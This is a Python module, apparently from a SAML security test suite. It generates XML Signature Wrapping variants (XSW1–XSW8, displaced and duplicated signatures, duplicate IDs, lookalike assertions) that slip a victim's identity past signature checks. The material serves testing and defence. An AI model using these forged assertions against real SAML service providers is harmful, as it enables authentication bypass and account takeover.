"""Attacks by where things stand: what was signed is still there, or twice, or elsewhere.

XSW are the wrapping attacks of Somorovsky et al., "On Breaking SAML".
"""

import copy

from lxml import etree

from peers import saml
from peers.saml import assertion_of, build_assertion, child, find, q
from peers.saml_signatures import sign
from saml_attacks import Attacks, advice, extension, renamed, without_signature
from saml_cases import OTHER_KEY

WRAPPING = Attacks()


def evil_twin(case, element, same_id, keep=False):
    """A copy of a signed element that speaks of the victim, with or without the signature."""
    evil = renamed(copy.deepcopy(element) if keep else without_signature(element), case.victim)
    if not same_id:
        evil.set("ID", saml.new_id())
    return evil


def wrapped(case, number, same_id):
    """XSW1 to XSW8: what was signed is still there, where only the signature looks."""
    tree = case.signed("response" if number <= 2 else "assertion")
    if number <= 2:
        evil = evil_twin(case, tree, same_id, keep=True)
        if not same_id:
            assertion_of(evil).set("ID", saml.new_id())
        signature = find(evil, "ds:Signature")
        (signature.append if number == 1 else signature.addprevious)(without_signature(tree))
        return evil
    signed = assertion_of(tree)
    evil = evil_twin(case, signed, same_id, keep=number in (5, 6, 8))
    if number == 3:
        signed.addprevious(evil)
    elif number == 4:
        tree.replace(signed, evil)
        evil.append(signed)
    elif number == 7:
        extension(tree, evil)
    else:
        tree.replace(signed, evil)
        signature = find(evil, "ds:Signature")
        place = {5: tree, 6: signature, 8: signature}[number]
        (child(place, "ds:Object") if number == 8 else place).append(without_signature(signed))
    return tree


for _number in range(1, 9):
    for _same in (False, True):
        WRAPPING[f"XSW{_number}{' under one ID' if _same else ''}"] = lambda case, n=_number, same=_same: wrapped(case, n, same)


@WRAPPING("two signatures in the assertion", "two signatures in the assertion, the second by another")
def twice(case, name):
    tree = case.build()
    of = assertion_of(tree)
    first = sign(of, case.idp.key)
    second = sign(without_signature(of), OTHER_KEY if "another" in name else case.idp.key)
    first.addnext(second)
    return tree


@WRAPPING("a signature by another before the good one")
def before_the_good_one(case):
    tree = case.signed()
    of = assertion_of(tree)
    find(of, "ds:Signature").addprevious(sign(without_signature(of), OTHER_KEY))
    return tree


@WRAPPING("two signed assertions", "another assertion beside", "another assertion before")
def beside(case, name):
    tree = case.signed()
    other = assertion_of(case.build(name_id=case.victim))
    if name == "two signed assertions":
        sign(other, case.idp.key)
    (assertion_of(tree).addprevious if name.endswith("before") else tree.append)(other)
    return tree


@WRAPPING("another assertion beside, in a signed response")
def two_below_a_signature(case):
    tree = case.build()
    tree.append(build_assertion(case.idp.entity_id, case.request, name_id=case.victim))
    sign(tree, case.idp.key)
    return tree


@WRAPPING("an assertion in the advice", "an assertion in an extension")
def elsewhere(case, name):
    tree = case.build()
    other = build_assertion(case.idp.entity_id, case.request, name_id=case.victim)
    if name.endswith("advice"):
        advice(assertion_of(tree), other)
    else:
        extension(tree, other)
    return case.idp.sign(tree, "both")


@WRAPPING("an encrypted assertion beside")
def encrypted_beside(case):
    tree = case.signed()
    data = etree.SubElement(child(tree, "saml:EncryptedAssertion"), "{http://www.w3.org/2001/04/xmlenc#}EncryptedData")
    etree.SubElement(data, "{http://www.w3.org/2001/04/xmlenc#}CipherData")
    return tree


@WRAPPING("an assertion of another namespace", "an assertion in lower case")
def lookalike(case, name):
    tree = case.build()
    assertion_of(tree).tag = "{urn:oasis:names:tc:SAML:1.0:assertion}Assertion" if "namespace" in name else q("saml:assertion")
    sign(tree, case.idp.key)
    return tree


@WRAPPING("the signature in an extension", "the signature in an object", "the signature in the advice",
          "the signature in the subject", "the assertion's signature in the response")
def displaced(case, name):
    """It refers to the assertion from another place."""
    tree = case.build()
    of = assertion_of(tree)
    inside = name.endswith(("advice", "subject"))
    holder = {
        "the signature in an extension": lambda: extension(tree),
        "the signature in an object": lambda: child(child(extension(tree), "ds:Signature"), "ds:Object"),
        "the signature in the advice": lambda: advice(of),
        "the signature in the subject": lambda: find(of, ".//saml:SubjectConfirmationData"),
        "the assertion's signature in the response": lambda: tree,
    }[name]()
    signature = sign(of, case.idp.key, into=holder, transforms=["enveloped", "exc-c14n"] if inside else ["exc-c14n"])
    if holder is tree:
        find(tree, "saml:Issuer").addnext(signature)
    return tree


@WRAPPING("one ID twice", "one ID as Id", "one ID as id", "one ID as xml:id", "the response's ID twice",
          "the response's ID as xml:id", "the response's ID as the assertion's")
def double_ids(case, name):
    tree = case.build()
    of = tree if name.startswith("the response's") else assertion_of(tree)
    if name.endswith("the assertion's"):
        assertion_of(tree).set("ID", tree.get("ID"))
        return case.idp.sign(tree, "both")
    attribute = {"twice": "ID", "xml:id": "{http://www.w3.org/XML/1998/namespace}id"}.get(name.split()[-1], name.split()[-1])
    extension(tree, etree.Element("{urn:example:x}thing", {attribute: of.get("ID")}))
    return case.idp.sign(tree, "both")
